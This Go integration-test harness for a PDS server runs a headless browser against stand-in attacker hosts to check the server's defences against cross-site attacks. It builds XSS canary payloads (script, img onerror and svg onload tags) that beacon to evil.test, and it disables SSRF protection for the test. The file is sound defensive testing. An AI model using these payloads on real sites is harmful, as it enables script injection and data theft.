//go:build interop

package interop

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/bluesky-social/indigo/atproto/syntax"

	adminapi "portico/api/atproto/admin"
	serverapi "portico/api/atproto/server"
	operatorapi "portico/api/portico/operator"
	"portico/api/xrpc"
	"portico/cmd/portico/launch"
	"portico/impl/identity/directory"
	"portico/impl/mail/mailtest"
)

// Hosts of a stage. To a browser those under the server's are of the same site as it is.
const (
	stageHost  = "pds.test"
	handleHost = "mallory.pds.test" // of a handle, whose pages are somebody else's
	evilHost   = "evil.test"        // another site
	boundHost  = "rebound.test"     // somebody else's, and leads here
	appHost    = "app.example.com"  // of an app: no client_id may be under a top-level domain for tests

	accountPages = "https://" + stageHost + "/account"

	stagePassword = "operator of the stage"
)

// A stage is a server in the world, behind a proxy with TLS, with a browser that finds it
// there, and with hosts of somebody who wishes its users ill. All that the browser asks of
// the server is looked at.
type stage struct {
	*place
	*browser
	t        *testing.T
	server   *launch.Server
	env      []string // its settings
	operator *operatorapi.Client
	front    *launch.Front
	console  string // where the console is on loopback: its origin

	mu     sync.Mutex
	seen   []seen
	plain  bool                        // no Sec-Fetch-* reaches the server
	silent bool                        // no Origin does
	pages  map[string]http.HandlerFunc // of the hosts that are not the server's, and of "pds.test/planted…"
	hits   []string                    // what scripts of strangers told that they run
}

// seen is a request of the browser that the server was asked, and what it answered.
type seen struct {
	verb, host, path         string
	origin, site, dest, kind string
	cookie                   bool // there was the cookie of a session, or of who has none
	status                   int
	header                   http.Header // of the answer
}

func (s seen) String() string {
	return fmt.Sprintf("%s %s%s from %q (%s, %s, %s, cookie %v): %d", s.verb, s.host, s.path, s.origin, s.site, s.dest, s.kind, s.cookie, s.status)
}

func newStage(t *testing.T, env ...string) *stage {
	t.Helper()
	s := &stage{t: t, pages: map[string]http.HandlerFunc{}}
	d := httptest.NewServer(directory.New(directory.NewMemory(), time.Now, "stage", slog.New(slog.DiscardHandler)))
	t.Cleanup(d.Close)
	port, err := launch.FreePort()
	if err != nil {
		t.Fatal(err)
	}
	s.console = fmt.Sprintf("http://localhost:%d", port)
	s.place = &place{mails: mailtest.Start(t, mailtest.Config{Recipient: func(address string) error {
		if strings.Contains(address, "never") {
			return mailtest.Answer(451, "<img src=x onerror=top.__pwned=1> try later")
		}
		return nil
	}})}
	if s.front, err = launch.NewFront(t.TempDir(), stageHost, "*."+stageHost, evilHost, boundHost, appHost); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.front.Close)
	s.env = append(append([]string{
		"PDS_HOSTNAME=" + stageHost, "PORTICO_BIND=127.0.0.1", "PDS_DID_PLC_URL=" + local(d), "PDS_ADMIN_PASSWORD=" + stagePassword,
		"PDS_PLC_ROTATION_KEY_K256_PRIVATE_KEY_HEX=" + rotationKey, "PDS_JWT_SECRET=f27f9ac1e1a17cd56cf6a3f1f5c2f8b3", "PDS_INVITE_REQUIRED=false",
		"PDS_DISABLE_SSRF_PROTECTION=true", "PDS_RATE_LIMIT_BYPASS_IPS=127.0.0.1,::1", "PDS_SERVICE_HANDLE_DOMAINS=." + stageHost,
		"PDS_EMAIL_SMTP_URL=" + s.mails.URL().String(), "PDS_EMAIL_FROM_ADDRESS=server@example.com", "PDS_CONTACT_EMAIL_ADDRESS=operator@example.com",
		fmt.Sprintf("PORTICO_CONSOLE_BIND=127.0.0.1:%d", port),
	}, s.front.Environ()...), env...)
	if s.server, err = launch.StartServer(t.Context(), binary, t.TempDir(), s.env...); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.server.Kill() })
	t.Cleanup(func() {
		if t.Failed() {
			t.Log(s.server.Log())
		}
	})
	s.place.url = s.server.URL
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("admin:"+stagePassword))
	client := xrpc.Client{Host: s.place.url, Authorization: func(context.Context, *xrpc.Method) (string, error) { return basic, nil }}
	s.place.admin, s.operator = &adminapi.Client{Client: client}, &operatorapi.Client{Client: client}

	behind := s.watched(s.server.URL, false)
	s.front.LeadTo(stageHost, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if f := s.pageOf(r); f != nil {
			f(w, r)
			return
		}
		behind.ServeHTTP(w, r)
	}))
	s.front.LeadTo(boundHost, behind)
	s.front.LeadTo(handleHost, http.HandlerFunc(s.stranger))
	s.front.LeadTo(evilHost, http.HandlerFunc(s.stranger))
	s.front.LeadTo(appHost, http.HandlerFunc(s.stranger))
	lens := httptest.NewServer(s.watched(s.console, true))
	t.Cleanup(lens.Close)
	at := strings.TrimPrefix(lens.URL, "http://")
	s.browser = startBrowser(t, "--ignore-certificate-errors",
		fmt.Sprintf("--host-resolver-rules=MAP *.test:443 %[1]s, MAP %[2]s:443 %[1]s, MAP *:%[3]d %[4]s", s.front.Address, appHost, port, at))
	for _, domain := range []string{"Page", "Runtime", "Network", "Log"} {
		s.call(domain+".enable", nil)
	}
	return s
}

// watched passes on to the server at base, and looks at what it is asked and answers. A direct one
// has no proxy before it.
func (s *stage) watched(base string, direct bool) http.Handler {
	to, err := url.Parse(base)
	if err != nil {
		s.t.Fatal(err)
	}
	type key struct{}
	return &httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			h := r.In.Header
			one := seen{
				verb: r.In.Method, host: r.In.Host, path: r.In.URL.Path, origin: h.Get("Origin"), site: h.Get("Sec-Fetch-Site"),
				dest: h.Get("Sec-Fetch-Dest"), kind: h.Get("Sec-Fetch-Mode"), cookie: strings.Contains(h.Get("Cookie"), "__Host-portico-"),
			}
			if h.Get("Service-Worker") != "" {
				one.dest = "serviceworker"
			}
			r.SetURL(to)
			r.Out.Host = r.In.Host
			if !direct {
				r.SetXForwarded()
			}
			s.mu.Lock()
			if s.plain {
				for name := range r.Out.Header {
					if strings.HasPrefix(name, "Sec-") {
						r.Out.Header.Del(name)
					}
				}
			}
			if s.silent {
				r.Out.Header.Del("Origin")
			}
			s.mu.Unlock()
			r.Out = r.Out.WithContext(context.WithValue(r.Out.Context(), key{}, one))
		},
		ModifyResponse: func(a *http.Response) error {
			one := a.Request.Context().Value(key{}).(seen)
			one.status, one.header = a.StatusCode, a.Header
			s.mu.Lock()
			s.seen = append(s.seen, one)
			s.mu.Unlock()
			return nil
		},
		FlushInterval: -1,
		ErrorHandler:  func(w http.ResponseWriter, _ *http.Request, _ error) { w.WriteHeader(http.StatusBadGateway) },
	}
}

// stranger serves what the hosts have that are not the server's. What is told to them at
// /pwned is a hit.
func (s *stage) stranger(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/pwned" {
		s.mu.Lock()
		s.hits = append(s.hits, r.URL.RawQuery)
		s.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		return
	}
	if f := s.pageOf(r); f != nil {
		f(w, r)
		return
	}
	http.NotFound(w, r)
}

func (s *stage) pageOf(r *http.Request) http.HandlerFunc {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.pages[r.Host+r.URL.Path]
}

// put has a host serve something under a path, and returns its URL.
func (s *stage) put(host, path, kind, body string) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.pages[host+path] = func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", kind)
		w.Write([]byte(body))
	}
	return "https://" + host + path
}

// took returns what was seen since it was asked for last, and forgets it.
func (s *stage) took() []seen {
	s.mu.Lock()
	defer s.mu.Unlock()
	got := s.seen
	s.seen = nil
	return got
}

// awaits waits until the server has answered n requests that are such since took.
func (s *stage) awaits(what string, n int, such func(seen) bool) []seen {
	s.t.Helper()
	for deadline := time.Now().Add(launch.Patience / 6); ; time.Sleep(20 * time.Millisecond) {
		s.mu.Lock()
		var found []seen
		for _, one := range s.seen {
			if such(one) {
				found = append(found, one)
			}
		}
		all := slices.Clone(s.seen)
		s.mu.Unlock()
		if len(found) >= n {
			return found
		}
		if time.Now().After(deadline) {
			s.t.Fatalf("%s: %d of %d requests came:\n%v", what, len(found), n, all)
		}
		// Lets the browser say what it has to. The page may go away just now.
		_, _ = s.attempt("Runtime.evaluate", map[string]any{"expression": "0"})
	}
}

// pwned is what scripts of strangers have told since it was asked for last.
func (s *stage) pwned() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	got := s.hits
	s.hits = nil
	return got
}

// open goes to a page and waits until it is there.
func (s *stage) open(url string) {
	s.t.Helper()
	s.call("Page.navigate", map[string]any{"url": url})
	s.loaded(url)
}

func (s *stage) loaded(what string) {
	s.t.Helper()
	s.until(what, `!window.__before && document.readyState === 'complete'`)
}

// submit sends a form, the first that a selector finds, with some of its fields filled in,
// as a person does: by its button, which has to be there to be seen. It waits for the page
// that comes.
func (s *stage) submit(selector string, fields ...string) {
	s.t.Helper()
	var fill strings.Builder
	for i := 0; i < len(fields); i += 2 {
		fmt.Fprintf(&fill, "fill(%s, %s);", js(fields[i]), js(fields[i+1]))
	}
	said := s.run(`(() => {
		const form = document.querySelector(` + js(selector) + `);
		if (!form) return 'no form';
		const fill = (name, value) => {
			const field = form.elements[name];
			if (!field) throw new Error('no field ' + name);
			if (field.type === 'checkbox') field.checked = value !== ''; else field.value = value;
		};
		` + fill.String() + `
		const button = form.querySelector('button');
		if (!button || !button.checkVisibility()) return 'no button';
		if (!form.checkValidity()) return 'not valid: ' + [...form.elements].filter(e => !e.checkValidity()).map(e => e.name);
		window.__before = true;
		setTimeout(() => button.click());
		return '';
	})()`)
	if said != "" {
		s.t.Fatalf("form %s: %s, on %s: %s", selector, said, s.run("location.href"), s.text())
	}
	s.loaded("what " + selector + " leads to")
}

// text is what a person reads on the page.
func (s *stage) text() string { return s.run(`document.body.innerText`) }

// says wants the page to say something.
func (s *stage) says(what string) {
	s.t.Helper()
	if text := s.text(); !strings.Contains(text, what) {
		s.t.Fatalf("%s does not say %q:\n%s", s.run("location.href"), what, text)
	}
}

// member signs somebody up, by an app that calls itself agent.
func (s *stage) member(name, email, agent string) *owner {
	s.t.Helper()
	a := s.ask(s.t, "POST com.atproto.server.createAccount", `{"handle":"`+name+"."+stageHost+`","email":`+js(email)+`,"password":"`+ownersPassword+`"}`, "User-Agent", agent)
	if a.status != http.StatusOK {
		s.t.Fatalf("%s signs up: %d %s", name, a.status, a.body)
	}
	client := xrpc.Client{Host: s.place.url, Authorization: xrpc.Bearer(a.text("accessJwt"))}
	return &owner{T: s.t, place: s.place, did: syntax.DID(a.text("did")), server: &serverapi.Client{Client: client}}
}

// signIn signs in to the pages of an account.
func (s *stage) signIn(name string) {
	s.t.Helper()
	s.open(accountPages)
	s.submit("form#sign-in", "identifier", name+"."+stageHost, "password", ownersPassword)
	s.says("@" + name + "." + stageHost)
}

func (s *stage) forgetCookies() {
	s.t.Helper()
	s.call("Network.clearBrowserCookies", nil)
}

// A cookie is one as the browser has it.
type cookie struct {
	Name, Value, Domain, Path, SameSite string
	HTTPOnly                            bool `json:"httpOnly"`
	Secure, Session                     bool
}

func (s *stage) cookies(urls ...string) (list []cookie) {
	s.t.Helper()
	var out struct{ Cookies []cookie }
	s.result(s.call("Network.getCookies", map[string]any{"urls": urls}), &out)
	return out.Cookies
}

// js is a text in JavaScript.
func js(text string) string {
	b, _ := json.Marshal(text) // of a string there is no error
	return string(b)
}

// A form is one that a page has: where it is sent, and what with.
type form struct {
	Page, Action string
	Fields       [][2]string
}

// forms are those of the page that change something.
func (s *stage) forms() (list []form) {
	s.t.Helper()
	text := s.run(`JSON.stringify([...document.forms].filter(f => f.method === 'post').map(f => ({
		Page: location.href, Action: f.action,
		Fields: [...new FormData(f)].map(([name, value]) => [name, String(value)]),
	})))`)
	if err := json.Unmarshal([]byte(text), &list); err != nil {
		s.t.Fatal(err)
	}
	return list
}

// tried is a script that tells where it ran, at every place that it can.
func tried(what string) string {
	beacon := "https://" + evilHost + "/pwned?" + url.QueryEscape(what)
	return `try{self.__pwned=1}catch(e){};try{top.__pwned=1}catch(e){};try{fetch('` + beacon + `',{mode:'no-cors'})}catch(e){};` +
		`try{new Image().src='` + beacon + `&image'}catch(e){}`
}

// markup is HTML that runs a script in many ways, if it is taken for HTML.
func markup(what string) string {
	script := html.EscapeString(tried(what))
	return `"'><script>` + tried(what) + `</script><img src=x onerror="` + script + `"><svg onload="` + script + `">`
}

var wordPattern = regexp.MustCompile(`[^a-z0-9]+`)

// wholePicture is picture of all of the page, also of what is to be scrolled to.
func (s *stage) wholePicture(name string) {
	s.t.Helper()
	folder := os.Getenv("PORTICO_SCREENSHOT")
	if folder == "" {
		return
	}
	var picture struct{ Data []byte }
	s.result(s.call("Page.captureScreenshot", map[string]any{"captureBeyondViewport": true}), &picture)
	name = strings.Trim(wordPattern.ReplaceAllString(strings.ToLower(name), "-"), "-")
	if err := os.WriteFile(filepath.Join(folder, name+".png"), picture.Data, 0o666); err != nil {
		s.t.Fatal(err)
	}
}
